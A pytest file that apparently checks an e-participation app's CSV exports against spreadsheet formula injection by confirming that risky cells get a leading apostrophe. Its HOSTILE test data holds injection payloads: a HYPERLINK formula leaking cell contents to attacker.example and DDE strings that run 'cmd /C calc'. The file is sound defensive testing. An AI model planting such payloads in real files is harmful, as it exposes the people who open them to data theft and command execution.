"""Every CSV export is safe to open in a spreadsheet program: a text cell that would start a formula (=, +, -, @,
a tab, a carriage return) is written with a leading apostrophe, while numbers stay numbers (OWASP CSV
injection)."""

import csv
import io
from datetime import timedelta

import pytest

from eparticipation.audit.chain import append
from eparticipation.exports import csv_text
from eparticipation.participation.models import OrganisationKind
from eparticipation.responses.models import Decision, Response, ResponseComment, ResponseRevision

from ..conftest import NOW
from ..factories import make_agency, make_comment, make_draft, make_final_report, make_user

HOSTILE = {
    "name": '=HYPERLINK("https://attacker.example/?leak="&A1,"click")',
    "body": "+cmd|' /C calc'!A0",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "-2+3+cmd|' /C calc'!A0",
    "law": "\t=1+1",
    "article": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def read(download) -> list[dict]:
    assert download.content_type == "text/csv"
    return list(csv.DictReader(io.StringIO(download.body.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows: list[dict]):
    cells = [value for row in rows for value in row.values()]
    starting = [value for value in cells if value.startswith(FORMULA_STARTS) and not is_number(value)]
    assert starting == []


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_text_cells_that_start_a_formula_get_an_apostrophe_and_numbers_stay_numbers():
    text = csv_text(["a", "b", "c", "d", "e", "f"], [[-3, "-3", -1.5, None, "ok", "=1+1"]])
    [row] = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1:]
    assert row == ["-3", "'-3", "-1.5", "", "ok", "'=1+1"]


@pytest.fixture
def world(dbsession):
    agency = make_agency(dbsession, code="tax")
    editor = make_user(dbsession, email="editor@example.org", display_name=HOSTILE["name"],
                       grants=[("editor", agency)])
    make_user(dbsession, email="auditor@example.org", grants=[("auditor", None)])
    citizen = make_user(dbsession, email="-citizen@example.org", display_name=HOSTILE["name"])
    draft = make_draft(dbsession, agency, state="closed", opens_at=NOW - timedelta(days=40),
                       closes_at=NOW - timedelta(days=5))
    comment = make_comment(dbsession, draft, citizen, body=HOSTILE["body"], organisation_name=HOSTILE["organisation"],
                           organisation_kind=OrganisationKind.ngo)
    response = Response(draft_id=draft.id, created_by_id=editor.id, created_at=NOW - timedelta(days=3))
    response.covered = [ResponseComment(comment_id=comment.id)]
    response.revisions = [ResponseRevision(number=1, decision=Decision.rejected, reason=HOSTILE["reason"],
                                           legal_basis_law=HOSTILE["law"], legal_basis_article=HOSTILE["article"],
                                           author_id=editor.id, written_at=NOW - timedelta(days=3))]
    dbsession.add(response)
    append(dbsession, at=NOW, actor_id=citizen.id, action="comment.add", object_type="Comment",
           object_id=comment.id, agency_id=agency.id, draft_id=draft.id, after={"body": HOSTILE["body"]})
    make_final_report(dbsession, draft)
    dbsession.flush()
    return {"draft": draft}


def test_the_audit_log_export_is_neutralised(testapp, world):
    testapp.login("auditor@example.org")
    rows = read(testapp.get("/audit/export.csv?agency=tax"))
    assert_no_formula(rows)
    assert [row["actor_email"] for row in rows if row["action"] == "comment.add"] == ["'-citizen@example.org"]
    assert all(int(row["seq"]) > 0 for row in rows)  # numbers are still numbers


def test_the_response_history_export_is_neutralised(testapp, world):
    testapp.login("auditor@example.org")
    [row] = read(testapp.get(f"/audit/drafts/{world['draft'].id}/responses.csv"))
    assert_no_formula([row])
    assert (row["author"], row["reason"], row["legal_basis_law"], row["legal_basis_article"]) == (
        "'" + HOSTILE["name"], "'" + HOSTILE["reason"], "'" + HOSTILE["law"], "'" + HOSTILE["article"])
    assert row["revision"] == "1"


def test_the_open_data_comments_and_tables_are_neutralised(testapp, world):
    testapp.login("auditor@example.org")
    base = f"/consultations/{world['draft'].id}/report/"
    [row] = read(testapp.get(base + "comments.csv"))
    assert_no_formula([row])
    assert (row["author"], row["body"], row["organisation"], row["reason"]) == (
        "'" + HOSTILE["name"], "'" + HOSTILE["body"], "'" + HOSTILE["organisation"], "'" + HOSTILE["reason"])
    tables = read(testapp.get(base + "tables.csv"))
    assert_no_formula(tables)
    assert [row["value"] for row in tables if row["table"] == "meta"] == ["5"]
